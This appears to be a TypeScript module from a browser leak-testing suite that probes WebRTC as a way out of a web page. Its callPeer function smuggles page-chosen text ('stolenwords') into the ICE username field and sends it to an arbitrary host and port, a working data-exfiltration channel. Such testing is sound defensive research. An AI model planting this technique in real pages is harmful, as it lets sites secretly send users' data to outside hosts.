import type { Target } from './ways-out.ts';

/** A connection that a page makes by WebRTC: the servers that it asks. */
export const servers: Readonly<Record<string, (address: string) => RTCIceServer>> = {
  'STUN by UDP': (address) => ({ urls: `stun:${address}` }),
  'TURN by UDP': (address) => ({ urls: `turn:${address}?transport=udp`, username: 'x', credential: 'x' }),
  'TURN by TCP': (address) => ({ urls: `turn:${address}?transport=tcp`, username: 'x', credential: 'x' }),
  'TURN by TLS': (address) => ({ urls: `turns:${address}?transport=tcp`, username: 'x', credential: 'x' }),
};

/** Gathers candidates with `server`, in the page itself or in an empty frame of it, which has everything anew. Runs in the page. */
export async function gather(server: RTCIceServer, isInFrame: boolean): Promise<void> {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const realm = isInFrame ? (frame.contentWindow as unknown as typeof globalThis | null) : globalThis;
  if (realm === null) return;
  const connection = new realm.RTCPeerConnection({ iceServers: [server], iceCandidatePoolSize: 2 });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
}

/** Calls a peer at `target`, with words of the page's choice in every packet of the call. Runs in the page. */
export async function callPeer({ host, port }: Target, protocol: 'udp' | 'tcp'): Promise<void> {
  const local = new RTCPeerConnection();
  const remote = new RTCPeerConnection();
  local.createDataChannel('x');
  await local.setLocalDescription(await local.createOffer());
  await remote.setRemoteDescription(local.localDescription ?? { type: 'offer' });
  await remote.setLocalDescription(await remote.createAnswer());
  const answer = remote.localDescription?.sdp.replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:stolenwords') ?? '';
  await local.setRemoteDescription({ type: 'answer', sdp: answer });
  const kind = protocol === 'tcp' ? ' tcptype passive' : '';
  const address = host.replace(/[[\]]/g, '');
  const candidate = `candidate:1 1 ${protocol} 2130706431 ${address} ${port} typ host${kind}`;
  await local.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
}
